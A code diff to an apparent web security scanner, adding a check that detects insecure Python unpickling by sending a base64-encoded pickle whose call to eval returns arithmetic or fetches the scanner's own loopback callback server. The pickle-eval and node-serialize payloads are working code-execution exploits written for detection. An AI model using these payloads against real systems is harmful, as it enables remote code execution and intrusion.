@@ -10,6 +10,7 @@ value changes the answer (the code ran or failed) and no eval shape showed its r
 
 from __future__ import annotations
 
+import base64
 import re
 
 from auditor.probe.callback import CallbackServer
@@ -43,10 +44,25 @@ EVALUATES = re.compile(r"\b(?:eval|exec)\s*\(")
 # one runs as it is read: the object comes back holding the product.
 UNSERIALIZES = re.compile(r"\bunserialize\s*\(")
 NODE_SERIALIZE = '{{"audit":"_$$ND_FUNC$$_function(){{return {a}*{b}}}()"}}'
+# A Python handler that unpickles its input makes the calls the pickle names: protocol 0's text
+# of a call to eval on arithmetic (or on the blind fetch below). `__builtin__` is Python 2's
+# name, which Python 3 maps to `builtins` for such pickles.
+PICKLE_EVAL = "c__builtin__\neval\n(V{expression}\ntR."
 # Blind Python: a statement and an expression alike, bounded in time, its answer discarded.
 # Python 3's urllib.request, or Python 2's urllib2 (an app still on 2.7).
 PYTHON_FETCH = ("(__import__('urllib.request',fromlist=['urlopen']) if __import__('sys').version_info[0]>2 "
                 "else __import__('urllib2')).urlopen('{url}'+str({a}*{b}),timeout=3).close()")
+
+
+def pickled(expression: str) -> str:
+    """The pickle that evaluates `expression`, base64-encoded so that standard and URL-safe
+    decoders alike read it: trailing spaces are added to the expression until the encoding holds
+    neither alphabet's own characters (`+/`, `-_`)."""
+    for pad in range(24):
+        encoded = base64.b64encode(PICKLE_EVAL.format(expression=expression + " " * pad).encode()).decode()
+        if not set(encoded) & set("+/-_"):
+            return encoded
+    return base64.b64encode(PICKLE_EVAL.format(expression=expression).encode()).decode()
 
 
 def result(engine: str, a: int, b: int) -> int:
@@ -100,10 +116,39 @@ class CodeInjection(PointCheck):
             ex = sender.send(point, NODE_SERIALIZE.format(a=a, b=b))
             if fresh(ex, str(a * b), base):
                 return self._confirmed(ex, point, "node-serialize", a * b)
+        if point.route.language == "python" and ctx.unpickles and (profile is None or profile.influenced) and \
+                (found := self._unpickled(sender, ctx, point, base)) is not None:
+            return found
         decoded_into_code = bool(point.param.decoded) and bool(EVALUATES.search(handler_text(ctx.project, point.route)))
         if point.route.language == "python" and (profile is None or profile.influenced or bool(evals) or decoded_into_code):
             return self._fetched(sender, ctx, point)
         return None
+
+    def _unpickled(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint, base: Exchange) -> Confirmation | None:
+        """A pickle that evaluates the product, base64-encoded (as a value in a URL or cookie is) and
+        as its own text; blind, one that fetches the callback server with it."""
+        a, b = numbers()
+        arithmetic = f"str({a}*{b})"
+        # a value the code base64-decodes itself is encoded by the sender
+        shapes = [PICKLE_EVAL.format(expression=arithmetic)] if point.param.decoded == "base64" else \
+            [pickled(arithmetic), PICKLE_EVAL.format(expression=arithmetic)]
+        for payload in shapes:
+            ex = sender.send(point, payload)
+            if fresh(ex, str(a * b), base):
+                return self._confirmed(ex, point, "pickle", a * b)
+        server = ctx.callback
+        if not isinstance(server, CallbackServer) or not is_loopback(origin_of(ctx.origin)[1]):
+            return None
+        tok, (a, b) = token(), numbers()
+        fetch = PYTHON_FETCH.format(url=server.url(tok), a=a, b=b)
+        ex = sender.send(point, PICKLE_EVAL.format(expression=fetch) if point.param.decoded == "base64" else pickled(fetch))
+        heard = f"{tok}{a * b}"
+        if not server.seen(heard, wait=0.3):
+            return None
+        return Confirmation(self.category, self.name,
+                            f"code injection: {point.label} is unpickled, and the pickle's calls run (it fetched "
+                            "auditor's callback server with a one-time token and the product of two random numbers)",
+                            ex, heard, point, severity="critical")
 
     def _fetched(self, sender: Sender, ctx: ProbeContext, point: InjectionPoint) -> Confirmation | None:
         server = ctx.callback
@@ -121,8 +166,10 @@ class CodeInjection(PointCheck):
                             severity="critical")
 
     def _confirmed(self, ex: Exchange, point: InjectionPoint, engine: str, product: int) -> Confirmation:
-        kind = "server-side template injection" if engine != "eval" else "code injection"
-        return Confirmation(self.category, "template" if engine != "eval" else self.name,
-                            f"{kind}: {point.label} is evaluated ({engine} syntax; the "
-                            f"{'sum' if engine in SUMS else 'product'} of two random numbers came back)", ex, str(product),
+        template = engine not in ("eval", "pickle", "node-serialize")
+        how = "is unpickled, and the pickle's call to eval runs" if engine == "pickle" else f"is evaluated ({engine} syntax"
+        return Confirmation(self.category, "template" if template else self.name,
+                            f"{'server-side template injection' if template else 'code injection'}: {point.label} {how}"
+                            f"{';' if engine != 'pickle' else ':'} the {'sum' if engine in SUMS else 'product'} of two "
+                            f"random numbers came back{')' if engine != 'pickle' else ''}", ex, str(product),
                             point, severity="critical")
